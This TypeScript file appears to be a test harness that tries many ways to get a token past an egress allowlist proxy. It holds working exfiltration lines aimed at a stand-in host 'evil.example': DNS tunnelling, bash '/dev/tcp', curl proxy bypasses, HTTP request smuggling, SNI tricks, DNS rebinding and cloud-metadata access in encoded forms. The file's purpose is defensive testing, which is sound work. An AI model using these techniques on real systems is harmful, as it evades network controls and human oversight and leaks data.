import { at, ports } from './addresses.ts';
import { get, inTunnel, nameQuery, run, tcp, tlsDirect, tlsInTunnel, toProxy, udp } from './tools.ts';

/** One way around the list. `token` must appear in whatever would leave. */
export interface Way {
  readonly group: string;
  readonly name: string;
  readonly go: (token: string) => Promise<string>;
}

const proxyUrl = `http://${at.proxy}:${String(ports.proxy)}`;
const proxied = { http_proxy: proxyUrl, https_proxy: proxyUrl, HTTP_PROXY: proxyUrl, HTTPS_PROXY: proxyUrl };
const curl = (...words: string[]): Promise<string> => run('curl', ['-sSk', '--max-time', '3', ...words], proxied);
const perl = (program: string): Promise<string> => run('perl', ['-MSocket', '-e', `alarm 2; ${program}`], proxied);

const way = (group: string, name: string, go: Way['go']): Way => ({ group, name, go });

/** Straight out, past every proxy. */
const direct: readonly Way[] = [
  way('address', 'HTTP to an address', (t) => tcp(at.evil, 80, get('evil.example', `/${t}`))),
  way('address', 'HTTP to an address under an allowed Host', (t) => tcp(at.evil, 80, get('allowed.example', `/${t}`))),
  way('address', 'TLS to an address under an allowed server name', (t) =>
    tlsDirect(at.evil, 443, get('allowed.example', `/${t}`)),
  ),
  way('address', 'HTTP to the address of an allowed host', (t) => tcp(at.allowed, 22, get('allowed.example', `/${t}`))),
  way('address', 'a port that proxies use', (t) => tcp(at.evil, 8080, t)),
  way('address', 'SOCKS', (t) => tcp(at.evil, 1080, `\x05\x01\x00${t}`)),
  way('address', 'mail', (t) => tcp(at.evil, 25, `EHLO ${t}\r\n`)),
  way('address', 'another workspace', (t) => tcp(at.otherWorkspace, 8080, t)),
  way('address', "the service's admin port", (t) => tcp(at.service, ports.admin, get('outrigger.example', `/${t}`))),
  way('IPv6', 'HTTP to an address', (t) => tcp(at.evil6, 80, get('evil.example', `/${t}`))),
  way('IPv6', 'TLS to an address', (t) => tlsDirect(at.evil6, 443, get('evil.example', `/${t}`))),
  way('IPv6', 'an IPv4 address written as IPv6', (t) => tcp(`::ffff:${at.evil}`, 80, get('evil.example', `/${t}`))),
  way('IPv6', 'another workspace', (t) => tcp(at.otherWorkspace6, 80, t)),
  way('IPv6', "the router's global address", (t) => tcp(at.proxy6, ports.admin, t)),
  way('IPv6', 'UDP', (t) => udp(at.evil6, 1234, t)),
  way('IPv6', 'an address of the link', (t) => tcp('fe80::1%eth0', ports.admin, t)),
  way('IPv6', 'everybody on the link', (t) => udp('ff02::1%eth0', 1234, t)),
  way('UDP', 'a datagram', (t) => udp(at.evil, 1234, t)),
  way('UDP', 'QUIC', (t) => udp(at.evil, 443, `\xc0${t}`)),
  way('UDP', 'time', (t) => udp(at.evil, 123, t)),
  way('UDP', 'a tunnel of IPsec', (t) => udp(at.evil, 4500, t)),
  way('UDP', 'a broadcast', (t) =>
    perl(
      `socket(S,PF_INET,SOCK_DGRAM,0); setsockopt(S,SOL_SOCKET,SO_BROADCAST,1); send(S,"${t}",0,sockaddr_in(1234,inet_aton("${at.evil}"))) or die $!; recv(S,$b,99,0); print $b`,
    ),
  ),
  way('ICMP', 'an echo', (t) => perl(`${ping(at.evil, t)}`)),
  way('ICMP', 'an echo to an allowed host', (t) => perl(`${ping(at.allowed, t)}`)),
  way('metadata', 'directly', (t) => tcp(at.metadata, 80, get(at.metadata, `/latest/${t}`))),
  way('metadata', 'by curl without proxy variables', (t) =>
    run('curl', ['-sS', '--max-time', '2', `http://${at.metadata}/${t}`]),
  ),
  way('names', 'a public name server', (t) => udp(at.publicNames, 53, nameQuery(`${t}.evil.example`, 1))),
  way('names', 'TXT at a public name server', (t) => udp(at.publicNames, 53, nameQuery(`${t}.evil.example`, 16))),
  way('names', 'the usual name server, with data in the name', (t) =>
    udp(at.names, 53, nameQuery(`${t}.evil.example`, 16)),
  ),
  way('names', 'the resolver of the system', (t) =>
    perl(`print join ".", unpack("C4", scalar gethostbyname("${t}.evil.example") // "")`),
  ),
  way('names', 'over TCP', (t) => tcp(at.publicNames, 53, t)),
  way('names', 'over TLS', (t) => tcp(at.publicNames, 853, t)),
  way('names', 'over HTTPS', (t) => tlsDirect(at.publicNames, 443, get('dns.google', `/dns-query?dns=${t}`))),
];

function ping(address: string, token: string): string {
  return (
    `socket(S,PF_INET,SOCK_DGRAM,1) or die "socket: $!"; my $p=pack("C2n3a*",8,0,0,1,1,"${token}");` +
    `send(S,$p,0,sockaddr_in(0,inet_aton("${address}"))) or die "send: $!"; recv(S,$b,999,0); print "REACHED:ping" if length $b`
  );
}

/** Through the proxy, with a place that is not on the list. */
const unlisted: readonly Way[] = [
  way('CONNECT', 'a name that is not listed', (t) =>
    tlsInTunnel('evil.example:443', 'evil.example', get('evil.example', `/${t}`)),
  ),
  way('CONNECT', 'an address', (t) => inTunnel(`${at.evil}:80`, get('allowed.example', `/${t}`))),
  way('CONNECT', 'an address under an allowed Host', (t) =>
    toProxy(`CONNECT ${at.evil}:443 HTTP/1.1\r\nHost: allowed.example:443\r\n\r\n${t}`),
  ),
  way('CONNECT', 'an address of IPv6', (t) => inTunnel(`[${at.evil6}]:80`, get('allowed.example', `/${t}`))),
  way('CONNECT', 'an IPv4 address written as IPv6', (t) =>
    inTunnel(`[::ffff:${at.evil}]:80`, get('allowed.example', `/${t}`)),
  ),
  way('CONNECT', 'port 22 of an allowed host', (t) => inTunnel('allowed.example:22', t)),
  way('CONNECT', 'port 8443 of an allowed host', (t) => inTunnel(`allowed.example:${String(ports.extra)}`, t)),
  way(
    'CONNECT',
    'port 0 and a long port',
    async (t) => (await inTunnel('allowed.example:0', t)) + (await inTunnel('allowed.example:65979', t)),
  ),
  way('CONNECT', 'user information in front', (t) =>
    inTunnel('allowed.example@evil.example:80', get('evil.example', `/${t}`)),
  ),
  way('CONNECT', 'two authorities', (t) =>
    inTunnel('allowed.example:80:evil.example:80', get('evil.example', `/${t}`)),
  ),
  way('CONNECT', 'a NUL behind an allowed name', (t) =>
    inTunnel('evil.example\0.allowed.example:80', get('evil.example', `/${t}`)),
  ),
  way('CONNECT', 'a percent-encoded dot', (t) => inTunnel('evil%2eexample:80', get('evil.example', `/${t}`))),
  way('CONNECT', 'a name that ends like an allowed one', (t) =>
    inTunnel('evilallowed.example:80', get('evilallowed.example', `/${t}`)),
  ),
  way('CONNECT', 'a name that begins like an allowed one', (t) =>
    inTunnel('allowed.example.evil.example:80', get('evil.example', `/${t}`)),
  ),
  way('CONNECT', 'another ending', (t) => inTunnel('allowed.com:80', get('allowed.com', `/${t}`))),
  way('CONNECT', 'the proxy itself, by name', (t) => inTunnel(`proxy.allowed.example:${String(ports.proxy)}`, t)),
  way('CONNECT', 'the admin port of the service', (t) =>
    inTunnel(`outrigger.example:${String(ports.admin)}`, get('outrigger.example', `/${t}`)),
  ),
  way('spelling', 'upper case of a name that is not listed', (t) =>
    toProxy(get('EVIL.EXAMPLE', `http://EVIL.EXAMPLE/${t}`)),
  ),
  way('spelling', 'a final dot', (t) => toProxy(get('evil.example.', `http://evil.example./${t}`))),
  way('spelling', 'two final dots', (t) => toProxy(get('evil.example..', `http://evil.example../${t}`))),
  way('spelling', 'a full-width letter', (t) => toProxy(get('ｅvil.example', `http://ｅvil.example/${t}`))),
  way('spelling', 'a name in its own letters', (t) =>
    toProxy(get('bücher.evil.example', `http://bücher.evil.example/${t}`)),
  ),
  way('spelling', 'the punycode of another name', (t) =>
    toProxy(get('xn--vil-example', `http://xn--evil-example/${t}`)),
  ),
  way('spelling', 'an address in decimal', (t) => toProxy(get('3405803842', `http://3405803842/${t}`))),
  way('spelling', 'an address in hexadecimal', (t) => toProxy(get('0xcb007142', `http://0xcb007142/${t}`))),
  way('spelling', 'an address in octal', (t) => toProxy(get('0313.0.0161.0102', `http://0313.0.0161.0102/${t}`))),
  way('spelling', 'a short address', (t) => toProxy(get('203.28994', `http://203.28994/${t}`))),
  way('metadata', 'through the proxy', (t) => curl(`http://${at.metadata}/${t}`)),
  way('metadata', 'through the proxy, in decimal', (t) => toProxy(get('2852039166', `http://2852039166/${t}`))),
  way('metadata', 'through the proxy, in hexadecimal', (t) => toProxy(get('0xa9fea9fe', `http://0xa9fea9fe/${t}`))),
  way('metadata', 'through the proxy, in octal', (t) =>
    toProxy(get('0251.0376.0251.0376', `http://0251.0376.0251.0376/${t}`)),
  ),
  way('metadata', 'by an allowed name that leads there', (t) =>
    toProxy(get('meta.allowed.example', `http://meta.allowed.example/${t}`)),
  ),
  way('metadata', 'through the proxy, as IPv6', (t) =>
    toProxy(get('[::ffff:a9fe:a9fe]', `http://[::ffff:a9fe:a9fe]/${t}`)),
  ),
  way('names', 'data in a name that the proxy would resolve', (t) => inTunnel(`${t}.evil.example:443`, 'x')),
  way('names', 'data in a plain request', (t) => toProxy(get(`${t}.evil.example`, `http://${t}.evil.example/`))),
];

/** Allowed names that lead somewhere else. */
const leading: readonly Way[] = [
  ['another workspace', 'inside'],
  ['another workspace, by IPv6', 'inside6'],
  ['the proxy’s loopback', 'loop'],
  ['the proxy’s own address', 'self'],
  ['the proxy’s address in the workspace', 'proxy'],
  ['an address of the link', 'link'],
  ['no address at all', 'zero'],
  ['an IPv4 address inside IPv6', 'mapped'],
  ['a translated address', 'nat64'],
  ['one outside and one inside', 'mixed'],
].map(([name = '', label = '']) =>
  way('a name that leads to', name, async (t) => {
    const host = `${label}.allowed.example`;
    const paths = [
      get(host, `http://${host}/${t}`),
      get(`${host}:${String(ports.admin)}`, `http://${host}:${String(ports.admin)}/${t}`),
    ];
    return (await Promise.all(paths.map(toProxy)))
      .join('')
      .replaceAll('ALLOWED-ANSWER', label === 'mixed' ? 'REACHED:mixed' : '');
  }),
);

const allowedGet = (token: string, more = ''): string =>
  get('allowed.example', `http://allowed.example/${token}`, more);
const evilGet = (token: string): string => get('evil.example', `/smuggled-${token}`);

/** What two readers of one request could understand in two ways. */
const confusing: readonly Way[] = [
  way('Host', 'another Host than the address', (t) =>
    toProxy(get('evil.example', `http://allowed.example/smuggled-${t}`)),
  ),
  way('Host', 'an allowed Host for another address', (t) =>
    toProxy(get('allowed.example', `http://evil.example/${t}`)),
  ),
  way('Host', 'two of them', (t) =>
    toProxy(get('allowed.example', `http://allowed.example/smuggled-${t}`, 'Host: evil.example\r\n')),
  ),
  way('Host', 'a folded one', (t) =>
    toProxy(`GET http://allowed.example/smuggled-${t} HTTP/1.1\r\nHost: allowed.example\r\n evil.example\r\n\r\n`),
  ),
  way('Host', 'a space before the colon', (t) =>
    toProxy(
      `GET http://allowed.example/smuggled-${t} HTTP/1.1\r\nHost: allowed.example\r\nHost : evil.example\r\n\r\n`,
    ),
  ),
  way('Host', 'none, and a path', (t) => toProxy(`GET /${t} HTTP/1.1\r\nHost: evil.example\r\n\r\n`)),
  way('Host', 'user information in the address', (t) =>
    toProxy(get('evil.example', `http://allowed.example@evil.example/${t}`)),
  ),
  way('Host', 'a backslash in the address', (t) =>
    toProxy(get('evil.example', `http://evil.example\\@allowed.example/${t}`)),
  ),
  way('Host', 'a fragment in the address', (t) =>
    toProxy(get('evil.example', `http://evil.example#allowed.example/${t}`)),
  ),
  way('Host', 'another scheme', (t) => toProxy(get('evil.example', `ftp://evil.example/${t}`))),
  way('Host', 'https without a tunnel', (t) => toProxy(get('evil.example', `https://evil.example/${t}`))),
  way('Host', 'another Host in a plain tunnel', (t) =>
    inTunnel('allowed.example:80', get('evil.example', `/smuggled-${t}`)),
  ),
  way('Host', 'an absolute address in a plain tunnel', (t) =>
    inTunnel('allowed.example:80', get('evil.example', `http://evil.example/smuggled-${t}`)),
  ),
  way('server name', 'another one than CONNECT', (t) =>
    tlsInTunnel('allowed.example:443', 'evil.example', get('evil.example', `/smuggled-${t}`)),
  ),
  way('server name', 'none', (t) => tlsInTunnel('allowed.example:443', null, get('evil.example', `/smuggled-${t}`))),
  way('server name', 'an encrypted one (ESNI)', (t) => inTunnel('allowed.example:443', hello([[0xffce, t]]))),
  way('server name', 'two of them', (t) =>
    inTunnel(
      'allowed.example:443',
      hello([
        [0, sni('allowed.example')],
        [0, sni(`evil.example`)],
        [35, `smuggled-${t}`],
      ]),
    ),
  ),
  way('server name', 'two in one list', (t) =>
    inTunnel(
      'allowed.example:443',
      hello([
        [0, sni('allowed.example', 'evil.example')],
        [35, `smuggled-${t}`],
      ]),
    ),
  ),
  way('server name', 'an allowed one for another place', (t) =>
    tlsInTunnel('evil.example:443', 'allowed.example', get('allowed.example', `/${t}`)),
  ),
  way('server name', 'a hello that never ends', (t) =>
    inTunnel('allowed.example:443', `\x16\x03\x01\x3f\xff\x01\x00\x3f\xfbsmuggled-${t}`),
  ),
  way('smuggling', 'both Content-Length and Transfer-Encoding', (t) =>
    toProxy(post('Content-Length: 5\r\nTransfer-Encoding: chunked\r\n', `0\r\n\r\n${evilGet(t)}`)),
  ),
  way('smuggling', 'two lengths', (t) => toProxy(post('Content-Length: 0\r\nContent-Length: 99\r\n', evilGet(t)))),
  way('smuggling', 'a coding with a tab in it', (t) =>
    toProxy(post('Transfer-Encoding: \tchunked, identity\r\n', `0\r\n\r\n${evilGet(t)}`)),
  ),
  way('smuggling', 'a coding that is none', (t) => toProxy(post('Transfer-Encoding: xchunked\r\n', evilGet(t)))),
  way('smuggling', 'a negative length', (t) => toProxy(post('Content-Length: -1\r\n', evilGet(t)))),
  way('smuggling', 'a length that Connection drops', (t) =>
    toProxy(post('Content-Length: 0\r\nConnection: content-length\r\n', evilGet(t))),
  ),
  way('smuggling', 'a chunk with an extension', (t) =>
    toProxy(post('Transfer-Encoding: chunked\r\n', `0;a=b\r\n\r\n${evilGet(t)}`)),
  ),
  way('smuggling', 'a chunk that is longer than it says', (t) =>
    toProxy(post('Transfer-Encoding: chunked\r\n', `1\r\nab\r\n0\r\n\r\n${evilGet(t)}`)),
  ),
  way('smuggling', 'a line that ends in LF only', (t) =>
    toProxy(`GET http://allowed.example/ HTTP/1.1\nHost: allowed.example\n\n${evilGet(t)}`),
  ),
  way('smuggling', 'a bare CR in a header', (t) =>
    toProxy(allowedGet('x', `A: b\rHost: evil.example\r\nB: smuggled-${t}\r\n`)),
  ),
  way('smuggling', 'a request inside a header', (t) =>
    toProxy(
      `GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nA: b\n\nGET http://evil.example/smuggled-${t} HTTP/1.1\r\n\r\n`,
    ),
  ),
  way('reuse', 'a second request behind the first', (t) => toProxy(allowedGet('x') + evilGet(t))),
  way('reuse', 'a second request for another place', (t) =>
    toProxy(allowedGet('x') + get('evil.example', `http://evil.example/${t}`)),
  ),
  way('reuse', 'a CONNECT behind an allowed request', (t) =>
    toProxy(`${allowedGet('x')}CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example:80\r\n\r\n${t}`),
  ),
  way('reuse', 'a second request after a plain tunnel’s first', (t) =>
    inTunnel('allowed.example:80', get('allowed.example', '/') + evilGet(t)),
  ),
  way('reuse', 'a second CONNECT in a tunnel', (t) =>
    inTunnel('allowed.example:80', `CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example:80\r\n\r\n${t}`),
  ),
  way('upgrade', 'HTTP/2 with prior knowledge', (t) =>
    inTunnel('allowed.example:80', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nsmuggled-${t}`),
  ),
  way('upgrade', 'to h2c', (t) =>
    toProxy(
      allowedGet('x', 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n') +
        evilGet(t),
    ),
  ),
  way('upgrade', 'a WebSocket to a name that is not listed', (t) =>
    toProxy(get('evil.example', `http://evil.example/${t}`, 'Connection: Upgrade\r\nUpgrade: websocket\r\n')),
  ),
  way('upgrade', 'a request behind a WebSocket that was refused', (t) =>
    inTunnel('evil.example:80', get('evil.example', `/${t}`, 'Upgrade: websocket\r\n')),
  ),
  way('protocol', 'SSH in a tunnel to an allowed port', (t) =>
    inTunnel('allowed.example:443', `SSH-2.0-smuggled-${t}\r\n`),
  ),
  way('protocol', 'SOCKS spoken to the proxy', (t) =>
    toProxy(`\x05\x01\x00\x05\x01\x00\x03\x0cevil.example\x00\x50${t}`),
  ),
  way('protocol', 'the PROXY protocol in front', (t) =>
    toProxy(`PROXY TCP4 ${at.evil} ${at.evil} 1 80\r\n${get('evil.example', `/${t}`)}`),
  ),
  way('protocol', 'a request of HTTP/0.9', (t) => toProxy(`GET http://evil.example/${t}\r\n\r\n`)),
];

/** What programs do by themselves. */
const programs: readonly Way[] = [
  way('program', 'curl that follows a redirect', (t) =>
    curl('-L', `http://allowed.example/to/http%3A%2F%2Fevil.example%2F${t}`),
  ),
  way('program', 'curl that follows a redirect to an address', (t) =>
    curl('-L', `http://allowed.example/to/http%3A%2F%2F${at.evil}%2F${t}`),
  ),
  way('program', 'curl with NO_PROXY for everything', (t) =>
    run('curl', ['-sS', '--max-time', '2', `http://${at.evil}/${t}`], { ...proxied, NO_PROXY: '*', no_proxy: '*' }),
  ),
  way('program', 'curl with --noproxy', (t) => curl('--noproxy', '*', `http://${at.evil}/${t}`)),
  way('program', 'curl that resolves an allowed name elsewhere', (t) =>
    curl('--noproxy', '*', '--resolve', `allowed.example:80:${at.evil}`, `http://allowed.example/${t}`),
  ),
  way('program', 'curl that connects an allowed name elsewhere', (t) =>
    curl('--connect-to', `::evil.example:80`, `-p`, `http://allowed.example/${t}`),
  ),
  way('program', 'curl through another proxy', (t) =>
    run('curl', ['-sS', '--max-time', '2', '-x', `http://${at.evil}:3128`, `http://evil.example/${t}`]),
  ),
  way('program', 'curl through a SOCKS proxy', (t) =>
    run('curl', ['-sS', '--max-time', '2', '-x', `socks5h://${at.evil}:1080`, `http://evil.example/${t}`]),
  ),
  way('program', 'curl with the address of a device', (t) =>
    curl('--noproxy', '*', '--interface', 'eth0', `http://${at.evil}/${t}`),
  ),
  way('program', 'curl over IPv6', (t) => curl('--noproxy', '*', '-6', `http://[${at.evil6}]/${t}`)),
  way('program', 'a child without proxy variables', (t) =>
    run('env', ['-i', '/usr/bin/curl', '-sS', '--max-time', '2', `http://${at.evil}/${t}`]),
  ),
  way('program', 'a detached child without proxy variables', (t) =>
    run('setsid', ['-w', 'env', '-i', '/usr/bin/curl', '-sS', '--max-time', '2', `http://${at.evil}/${t}`]),
  ),
  way('program', 'git over its own protocol', (t) => run('git', ['ls-remote', `git://${at.evil}/${t}`], proxied)),
  way('program', 'git over HTTP, without variables', (t) =>
    run('git', ['-c', 'http.proxy=', 'ls-remote', `http://${at.evil}/${t}`]),
  ),
  way('program', 'ssh', () =>
    run('ssh', [
      '-v',
      '-o',
      'BatchMode=yes',
      '-o',
      'StrictHostKeyChecking=no',
      '-o',
      'ConnectTimeout=2',
      `nobody@${at.evil}`,
      'true',
    ]),
  ),
  way('program', 'bash, by its own device', (t) =>
    run('bash', [
      '-c',
      `exec 3<>/dev/tcp/${at.evil}/80; printf 'GET /${t} HTTP/1.1\\r\\n\\r\\n' >&3; timeout 1 cat <&3`,
    ]),
  ),
];

/** A ClientHello with these extensions and nothing else that matters. */
function hello(extensions: readonly (readonly [number, string])[]): string {
  const two = (value: number): string => String.fromCharCode(value >> 8, value & 255);
  const listed = extensions.map(([type, content]) => two(type) + two(content.length) + content).join('');
  const body = `\x03\x03${'r'.repeat(32)}\x00${two(2)}\x13\x01\x01\x00${two(listed.length)}${listed}`;
  const message = `\x01\x00${two(body.length)}${body}`;
  return `\x16\x03\x01${two(message.length)}${message}`;
}

function sni(...names: readonly string[]): string {
  const two = (value: number): string => String.fromCharCode(value >> 8, value & 255);
  const listed = names.map((name) => `\x00${two(name.length)}${name}`).join('');
  return two(listed.length) + listed;
}

const post = (headers: string, body: string): string =>
  `POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n${headers}\r\n${body}`;

export const ways: readonly Way[] = [...direct, ...unlisted, ...leading, ...confusing, ...programs];

/** The second of two connections to one allowed name, which by then leads elsewhere. */
export async function rebind(token: string): Promise<string> {
  const request = get('rebind.allowed.example', `http://rebind.allowed.example/${token}`);
  await toProxy(request);
  return (await toProxy(request)) + (await toProxy(request));
}
